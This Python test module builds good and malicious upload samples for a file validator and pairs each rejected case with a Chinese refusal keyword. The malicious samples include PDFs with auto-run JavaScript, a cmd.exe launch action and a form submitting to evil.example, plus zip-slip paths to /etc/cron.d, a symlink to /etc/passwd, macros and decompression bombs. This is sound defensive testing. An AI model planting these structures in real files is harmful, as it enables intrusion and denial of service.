"""A zoo of files, made by real tools when the test runs: what offices scan, phones take, and attackers send."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import typst
from PIL import Image

WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
SHEET = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
LAYOUT = {"OFD.xml": b"<OFD/>", "Doc_0/Document.xml": b"<Document/>"}


def package(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in parts.items():
            made.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def linked() -> bytes:
    """A package one of whose entries is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in WORD.items():
            made.writestr(name, content)
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_package() -> bytes:
    """A package whose entries say that they are encrypted."""
    raw = bytearray(package(WORD))
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := raw.find(mark, place + 1)) >= 0:
            raw[place + flag] |= 1
    return bytes(raw)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **saved: object) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saved)
    return out.getvalue()


def typeset() -> bytes:
    made = typst.compile(b"= Lease\n#lorem(300)", format="pdf", pdf_standards="a-2b")
    assert isinstance(made, bytes)
    return made


def script_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_by_name(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=made.make_stream(b"app.alert(1)")))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", action])))


def script_on_a_field(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x")
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.Widget, AA=pikepdf.Dictionary(K=action))
    made.pages[0].Annots = pikepdf.Array([note])


def launch(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ\x90")


def form_that_sends(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


def link_to_a_page(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.gov.cn/")
    made.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=act)])


def nested_bomb() -> bytes:
    """Objects packed in a stream that inflates to 256 MB of blanks."""
    packed = zlib.compressobj(9)
    body = b"".join(packed.compress(b" " * 2**24) for _ in range(16)) + packed.flush()
    made = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in (
        (1, b"<</Type/Catalog/Pages 2 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(body), body)),
    ):
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(bytes([1]) + places[n].to_bytes(4) + b"\0" for n in (1, 2, 3, 4)) + bytes([2, 0, 0, 0, 4, 0])
    start = len(made)
    index = b"<</Type/XRef/Size 6/W[1 4 1]/Index[1 5]/Root 1 0 R/Length %d>>" % len(rows)
    made += b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (index, rows, start)
    return bytes(made)


def photo(width: int = 800, height: int = 600, mode: str = "RGB", kind: str = "JPEG", **saved: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((width, height), 60).convert(mode).save(out, kind, **saved)
    return out.getvalue()


def phone_photo() -> bytes:
    """Taken upright with a phone: turned by EXIF, with place and camera."""
    image = Image.new("RGB", (400, 300), "white")
    image.paste("red", (0, 0, 200, 300))
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees
    exif[0x0110] = "PlantedCamera"
    exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 5.0, 0.0), 3: "E", 4: (119.0, 21.0, 0.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"PlantedComment")
    return out.getvalue()


def large_photo() -> bytes:
    """As large as may be, and to be turned."""
    exif = Image.Exif()
    exif[0x0112] = 6
    out = io.BytesIO()
    Image.new("RGB", (7200, 5400), "white").save(out, "JPEG", exif=exif)
    return out.getvalue()


def blank_picture(side: int) -> bytes:
    """A square of so many points: 20000 take 49 kB."""
    out = io.BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    return out.getvalue()


def text_bomb() -> bytes:
    """A small PNG with a comment that inflates to 200 MB."""
    plain = photo(8, 8, kind="PNG")
    data = b"zTXtComment\0\0" + zlib.compress(b"a" * 200 * 1024 * 1024, 9)
    chunk = struct.pack(">I", len(data) - 4) + data + struct.pack(">I", zlib.crc32(data))
    return plain[:33] + chunk + plain[33:]


def animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (50, 50), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "typeset pdf": ("租房合同.pdf", typeset),
    "scan with link": ("scan.PDF", lambda: pdf(link_to_a_page)),
    "packed pdf": ("packed.pdf", lambda: pdf(pages=30, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "linear pdf": ("linear.pdf", lambda: pdf(pages=3, linearize=True)),
    "pdf behind a scanner's bytes": ("odd.pdf", lambda: b"\xef\xbb\xbf\r\n" + pdf()),
    "500 pages": ("long.pdf", lambda: pdf(pages=500)),
    "phone photo": ("IMG_0001.JPEG", phone_photo),
    "grey scan": ("grey.jpg", lambda: photo(mode="L")),
    "print colours": ("cmyk.jpg", lambda: photo(mode="CMYK")),
    "progressive": ("web.jpg", lambda: photo(progressive=True)),
    "transparent": ("seal.png", lambda: photo(mode="RGBA", kind="PNG")),
    "palette": ("plan.png", lambda: photo(mode="P", kind="PNG")),
    "one bit": ("fax.png", lambda: photo(mode="1", kind="PNG")),
    "deep grey": ("deep.png", lambda: photo(mode="I;16", kind="PNG")),
    "animated": ("moving.png", animated),
    "39 megapixels": ("big.jpg", large_photo),
    "document": ("说明.docx", lambda: package(WORD)),
    "sheet": ("表.xlsx", lambda: package(SHEET)),
    "layout": ("证照.ofd", lambda: package(LAYOUT)),
}

# Name, content, a word that the refusal holds.
BAD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "script on opening": ("a.pdf", lambda: pdf(script_on_opening), "脚本"),
    "script by name": ("a.pdf", lambda: pdf(script_by_name), "脚本"),
    "script in packed objects": (
        "a.pdf",
        lambda: pdf(script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "脚本",
    ),
    "script on a field": ("a.pdf", lambda: pdf(script_on_a_field), "脚本"),
    "starts a program": ("a.pdf", lambda: pdf(launch), "脚本"),
    "sends itself": ("a.pdf", lambda: pdf(form_that_sends), "脚本"),
    "carries a program": ("a.pdf", lambda: pdf(attachment), "附件"),
    "password to open": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "加了密"),
    "password to print": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "加了密"),
    "501 pages": ("a.pdf", lambda: pdf(pages=501), "500 页"),
    "no page": ("a.pdf", lambda: pdf(pages=0), "没有页面"),
    "first half of a pdf": ("a.pdf", lambda: typeset()[: len(typeset()) // 2], "打不开"),
    "first half of a linear pdf": ("a.pdf", lambda: (b := pdf(pages=40, linearize=True))[: len(b) // 2], "打不开"),
    "only a header": ("a.pdf", lambda: b"%PDF-1.7\n", "打不开"),
    "page as pdf": ("a.pdf", lambda: b"<!doctype html><script>alert(1)</script>", "内容不是 .pdf"),
    "program as pdf": ("合同.pdf", lambda: b"MZ\x90\0" + random.Random(1).randbytes(4000), "内容不是 .pdf"),
    "picture as pdf": ("a.pdf", lambda: photo(), "内容不是 .pdf"),
    "pdf as picture": ("a.jpg", lambda: pdf(), "内容不是 .jpg"),
    "png as jpg": ("a.jpg", lambda: photo(kind="PNG"), "内容不是 .jpg"),
    "svg": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "不能交"),
    "page": ("a.html", lambda: b"<script>alert(1)</script>", "不能交"),
    "program": ("a.exe", lambda: b"MZ\x90\0", "不能交"),
    "two endings": ("a.pdf.exe", lambda: pdf(), "不能交"),
    "no ending": ("合同", lambda: pdf(), "不能交"),
    "archive": ("a.zip", lambda: package({"a.txt": b"a"}), "不能交"),
    "archive as document": ("a.docx", lambda: package({"a.txt": b"a"}), "不是正常的 .docx"),
    "document as sheet": ("a.xlsx", lambda: package(WORD), "不是正常的 .xlsx"),
    "macro": ("a.docx", lambda: package({**WORD, "word/VbaProject.bin": b"x"}), "宏"),
    "old macro": ("a.xlsx", lambda: package({**SHEET, "xl/macrosheets/sheet1.xml": b"x"}), "宏"),
    "document bomb": ("a.docx", lambda: package({**WORD, "word/media/a.bin": bytes(250 * 1024 * 1024)}), "展开后太大"),
    "dense document": ("a.docx", lambda: package({**WORD, "word/media/a.bin": bytes(20 * 1024 * 1024)}), "展开后太大"),
    "1001 parts": ("a.docx", lambda: package(WORD | {f"word/{n}": b"x" for n in range(1001)}), "展开后太大"),
    "climbing out": ("a.docx", lambda: package({**WORD, "../../etc/cron.d/x": b"x"}), "不是正常的"),
    "climbing out the other way": ("a.docx", lambda: package({**WORD, "..\\..\\x": b"x"}), "不是正常的"),
    "from the root": ("a.docx", lambda: package({**WORD, "/etc/passwd": b"x"}), "不是正常的"),
    "from another drive": ("a.docx", lambda: package({**WORD, "C:\\x": b"x"}), "不是正常的"),
    "symbolic link": ("a.docx", linked, "不是正常的"),
    "locked package": ("a.docx", locked_package, "加了密"),
    "half a document": ("a.docx", lambda: package(WORD)[:60], "打不开"),
    "20000 points square": ("a.png", lambda: blank_picture(20000), "4000 万像素"),
    "41 megapixels": ("a.png", lambda: blank_picture(6401), "4000 万像素"),
    "comment bomb": ("a.png", text_bomb, "打不开"),
    "half a photo": ("a.jpg", lambda: photo()[:9000], "完整"),
    "half a picture": ("a.png", lambda: photo(kind="PNG")[:9000], "完整"),
    "only a head": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(100), "打不开"),
    "empty": ("a.pdf", lambda: b"", "空的"),
    "31 MB": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(31 * 1024 * 1024), "30 MB"),
}
